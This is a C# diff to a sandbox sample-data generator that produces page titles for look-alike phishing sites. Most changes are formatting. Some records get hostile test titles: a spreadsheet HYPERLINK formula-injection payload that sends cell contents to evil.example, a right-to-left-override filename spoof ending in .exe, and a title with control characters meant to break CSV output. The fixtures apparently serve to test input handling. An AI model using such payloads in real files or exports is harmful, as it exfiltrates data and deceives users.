@@ -2,14 +2,18 @@ using System.Text.Json;
 
 namespace ThreatEvents.Sandbox.SampleData;
 
-/// <summary>What look-alike sites call themselves, and what their makers put there for those who read it in a terminal or a spreadsheet.</summary>
+/// <summary>
+/// What look-alike sites call themselves, and what their makers put there for those who read it in a terminal or a spreadsheet.
+/// </summary>
 internal static class PageTitles
 {
     private const int HostileEvery = 400;
     private const int LoneSurrogateEvery = 100_000;
 
-    private static readonly string[] Plain = ["", "Index of /", "This domain is parked", "403 Forbidden", "Coming soon…", "Domain for sale"];
-    private static readonly string[] Framed = ["{0} | Sign in", "{0} – Connexion", "Welcome to {0}", "{0}: verify your account", "{0} - Anmelden", "Login « {0} »"];
+    private static readonly string[] Plain =
+        ["", "Index of /", "This domain is parked", "403 Forbidden", "Coming soon…", "Domain for sale"];
+    private static readonly string[] Framed =
+        ["{0} | Sign in", "{0} – Connexion", "Welcome to {0}", "{0}: verify your account", "{0} - Anmelden", "Login « {0} »"];
 
     /// <summary>Whether the record at that place bears a hostile title.</summary>
     public static bool IsHostile(int serial) => (serial % HostileEvery) is 7 or 107 or 207 or 307 || IsLoneSurrogate(serial);
@@ -35,6 +39,6 @@ internal static class PageTitles
         107 => $"{brand.Name} \u202Egpj.exe",
         207 => "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click here\")",
         307 => $"{brand.Name}\u0000\r\nsign; in, \"now\"",
-        _ => dice.Percent(25) ? dice.Pick(Plain) : string.Format(System.Globalization.CultureInfo.InvariantCulture, dice.Pick(Framed), brand.Name),
+        _ => dice.Percent(25) ? dice.Pick(Plain) : dice.Pick(Framed).Replace("{0}", brand.Name),
     };
 }
